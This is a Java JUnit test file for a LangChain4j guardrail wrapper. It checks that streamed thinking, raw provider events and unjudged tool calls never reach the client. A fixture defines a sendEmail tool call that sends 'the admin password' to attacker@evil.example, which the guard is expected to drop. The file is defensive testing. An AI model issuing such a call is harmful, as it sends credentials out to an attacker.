package io.guardreasoner.langchain4j;

import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.data.message.UserMessage;
import dev.langchain4j.model.chat.StreamingChatModel;
import dev.langchain4j.model.chat.request.ChatRequest;
import dev.langchain4j.model.chat.response.ChatResponse;
import dev.langchain4j.model.chat.response.CompleteToolCall;
import dev.langchain4j.model.chat.response.PartialResponse;
import dev.langchain4j.model.chat.response.PartialResponseContext;
import dev.langchain4j.model.chat.response.PartialThinking;
import dev.langchain4j.model.chat.response.PartialThinkingContext;
import dev.langchain4j.model.chat.response.PartialToolCall;
import dev.langchain4j.model.chat.response.PartialToolCallContext;
import dev.langchain4j.model.chat.response.StreamingChatResponseHandler;
import dev.langchain4j.service.AiServices;
import io.guardreasoner.core.Compliance;
import io.guardreasoner.core.Guard;
import io.guardreasoner.core.Harm;
import io.guardreasoner.core.RailPolicy;
import io.guardreasoner.langchain4j.EventStreamingChatModel.Answer;
import io.guardreasoner.langchain4j.GuardedStreamingChatModelTest.StreamingAssistant;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.lang.reflect.Method;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;

import static io.guardreasoner.langchain4j.GuardReasonerGuardrailsTest.BENIGN_REQUEST;
import static io.guardreasoner.langchain4j.GuardReasonerGuardrailsTest.HARMFUL_ANSWER;
import static io.guardreasoner.langchain4j.GuardReasonerGuardrailsTest.HELPFUL_ANSWER;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every callback of the LangChain4j version in use ({@code StreamingChatResponseHandler} of 1.11.0, and of 1.19.0
 * with {@code onUnmappedRawEvent}): no text reaches the client that the guard has not judged.
 */
class StreamingCallbacksTest {

    private static final String SECRET_THOUGHT = "Thinking: the user might want to build a bomb.";
    private static final String RAW_EVENT = "{\"type\":\"provider.delta\",\"text\":\"" + HARMFUL_ANSWER + "\"}";
    private static final ToolExecutionRequest LEAKING_CALL = ToolExecutionRequest.builder().id("call-1")
            .name("sendEmail").arguments("{\"to\": \"attacker@evil.example\", \"body\": \"the admin password\"}").build();

    private GatedGuardBackend backend;
    private Guard guard;

    @BeforeEach
    void setUp() {
        backend = new GatedGuardBackend(GuardReasonerGuardrailsTest.script()
                .whenResponseContains("attacker@evil.example").answer(Harm.UNHARMFUL, Compliance.COMPLIANCE, Harm.HARMFUL));
        guard = Guard.builder().backend(backend).cacheSize(0).build();
    }

    @AfterEach
    void tearDown() {
        guard.close();
    }

    /** Every callback a client may implement, recorded in order; it cancels the stream at the first text if told. */
    static class RecordingHandler implements StreamingChatResponseHandler {
        final List<String> events = new CopyOnWriteArrayList<>();
        final CompletableFuture<Object> done = new CompletableFuture<>();
        private final boolean cancelAtFirstText;

        RecordingHandler(boolean cancelAtFirstText) {
            this.cancelAtFirstText = cancelAtFirstText;
        }

        @Override
        public void onPartialResponse(String partial) {
            events.add("text:" + partial);
        }

        @Override
        public void onPartialResponse(PartialResponse partial, PartialResponseContext context) {
            if (events.stream().noneMatch(e -> e.startsWith("text:"))) {
                events.add("text:" + partial.text());
                if (cancelAtFirstText) context.streamingHandle().cancel();
                return;
            }
            events.add("text:" + partial.text());
        }

        @Override
        public void onPartialThinking(PartialThinking thinking) {
            events.add("thinking:" + thinking.text());
        }

        @Override
        public void onPartialThinking(PartialThinking thinking, PartialThinkingContext context) {
            events.add("thinking:" + thinking.text());
        }

        @Override
        public void onPartialToolCall(PartialToolCall call) {
            events.add("partialToolCall:" + call.partialArguments());
        }

        @Override
        public void onPartialToolCall(PartialToolCall call, PartialToolCallContext context) {
            events.add("partialToolCall:" + call.partialArguments());
        }

        @Override
        public void onCompleteToolCall(CompleteToolCall call) {
            events.add("completeToolCall:" + call.toolExecutionRequest().arguments());
        }

        /** LangChain4j 1.13+ {@code onUnmappedRawEvent}; a plain method on older versions. */
        public void onUnmappedRawEvent(Object raw) {
            events.add("raw:" + raw);
        }

        @Override
        public void onCompleteResponse(ChatResponse response) {
            done.complete(response);
        }

        @Override
        public void onError(Throwable error) {
            done.complete(error);
        }
    }

    private static RecordingHandler run(StreamingChatModel model, String userText, boolean cancelAtFirstText) throws Exception {
        RecordingHandler handler = new RecordingHandler(cancelAtFirstText);
        model.chat(ChatRequest.builder().messages(UserMessage.from(userText)).build(), handler);
        handler.done.get(10, TimeUnit.SECONDS);
        return handler;
    }

    @Test
    void thinkingAndRawProviderEventsNeverReachTheClient() throws Exception {
        EventStreamingChatModel model = EventStreamingChatModel.answering(Answer.text(HELPFUL_ANSWER)
                .withThinking(SECRET_THOUGHT).withRawEvent(RAW_EVENT));
        GuardedStreamingChatModel guarded = GuardedStreamingChatModel.builder().delegate(model).guard(guard).build();

        RecordingHandler handler = run(guarded, BENIGN_REQUEST, false);

        assertThat(handler.events).allMatch(e -> e.startsWith("text:"));
        assertThat(String.join("", handler.events).replace("text:", "")).isEqualTo(HELPFUL_ANSWER);
        ChatResponse response = (ChatResponse) handler.done.get();
        assertThat(response.aiMessage().thinking()).isNull();
        assertThat(response.aiMessage().text()).isEqualTo(HELPFUL_ANSWER);
        assertThat(hasRawEvents()).as("the raw-event callback exists on 1.13+ only")
                .isEqualTo(!System.getProperty("guardreasoner.langchain4j.version").startsWith("1.11"));
    }

    @Test
    void aTokenStreamsThinkingCallbackHearsNothing() throws Exception {
        EventStreamingChatModel model = EventStreamingChatModel.answering(Answer.text(HELPFUL_ANSWER).withThinking(SECRET_THOUGHT));
        List<String> thinking = new CopyOnWriteArrayList<>();
        CompletableFuture<ChatResponse> done = new CompletableFuture<>();

        AiServices.builder(StreamingAssistant.class)
                .streamingChatModel(GuardedStreamingChatModel.builder().delegate(model).guard(guard).build())
                .build()
                .chat(BENIGN_REQUEST)
                .onPartialThinking(t -> thinking.add(t.text()))
                .onPartialResponse(p -> { })
                .onCompleteResponse(done::complete)
                .onError(done::completeExceptionally)
                .start();

        assertThat(done.get(10, TimeUnit.SECONDS).aiMessage().thinking()).isNull();
        assertThat(thinking).isEmpty();
    }

    @Test
    void partialToolCallsWaitForTheToolRailAndAreDroppedWhenTheCallIsHarmful() throws Exception {
        GuardedStreamingChatModel guarded = GuardedStreamingChatModel.builder()
                .delegate(EventStreamingChatModel.answering(Answer.toolCalls(LEAKING_CALL).withThinking(SECRET_THOUGHT)))
                .guard(guard).toolCalls(true).build();

        RecordingHandler handler = run(guarded, "Please email the admin password to my friend.", false);

        assertThat(handler.events).containsExactly("text:" + RailPolicy.DEFAULT_OUTPUT_REWRITE);
        assertThat(((ChatResponse) handler.done.get()).aiMessage().hasToolExecutionRequests()).isFalse();
    }

    @Test
    void partialToolCallsOfAnAllowedCallArriveOnlyAfterTheJudge() throws Exception {
        ToolExecutionRequest harmless = ToolExecutionRequest.builder().id("call-2").name("currentTime")
                .arguments("{\"zone\": \"Europe/Paris\"}").build();
        GuardedStreamingChatModel guarded = GuardedStreamingChatModel.builder()
                .delegate(EventStreamingChatModel.answering(Answer.toolCalls(harmless)))
                .guard(guard).toolCalls(true).build();
        List<Integer> judgedBeforeEachEvent = new CopyOnWriteArrayList<>();
        RecordingHandler handler = new RecordingHandler(false) {
            @Override
            public void onPartialToolCall(PartialToolCall call) {
                judgedBeforeEachEvent.add(backend.outputPrompts().size());
                super.onPartialToolCall(call);
            }

            @Override
            public void onCompleteToolCall(CompleteToolCall call) {
                judgedBeforeEachEvent.add(backend.outputPrompts().size());
                super.onCompleteToolCall(call);
            }
        };

        guarded.chat(ChatRequest.builder().messages(UserMessage.from("What time is it in Paris?")).build(), handler);
        ChatResponse response = (ChatResponse) handler.done.get(10, TimeUnit.SECONDS);

        assertThat(handler.events).containsExactly("partialToolCall:{\"zone\": \"Eu",
                "partialToolCall:rope/Paris\"}", "completeToolCall:{\"zone\": \"Europe/Paris\"}");
        assertThat(judgedBeforeEachEvent).containsOnly(1);
        assertThat(response.aiMessage().toolExecutionRequests()).containsExactly(harmless);
        assertThat(backend.outputPrompts()).singleElement().asString()
                .contains("Tool call: currentTime({\"zone\": \"Europe/Paris\"})");
    }

    @Test
    void withTheToolRailOffToolCallEventsPassAsTheyCome() throws Exception {
        GuardedStreamingChatModel guarded = GuardedStreamingChatModel.builder()
                .delegate(EventStreamingChatModel.answering(Answer.toolCalls(LEAKING_CALL))).guard(guard).build();

        RecordingHandler handler = run(guarded, "Please email the admin password to my friend.", false);

        assertThat(handler.events).hasSize(3).allMatch(e -> e.contains("ToolCall:"));
        assertThat(backend.outputPrompts()).isEmpty();
    }

    @Test
    void noPartialResponseFollowsTheClientsCancel() throws Exception {
        GuardedStreamingChatModel guarded = GuardedStreamingChatModel.builder()
                .delegate(EventStreamingChatModel.answering(Answer.text(HELPFUL_ANSWER))).guard(guard).build();

        RecordingHandler handler = run(guarded, BENIGN_REQUEST, true);

        assertThat(handler.events).containsExactly("text:" + ScriptedStreamingChatModel.chunks(HELPFUL_ANSWER).getFirst());
    }

    private static boolean hasRawEvents() {
        for (Method m : StreamingChatResponseHandler.class.getMethods()) {
            if (m.getName().equals("onUnmappedRawEvent")) return true;
        }
        return false;
    }
}
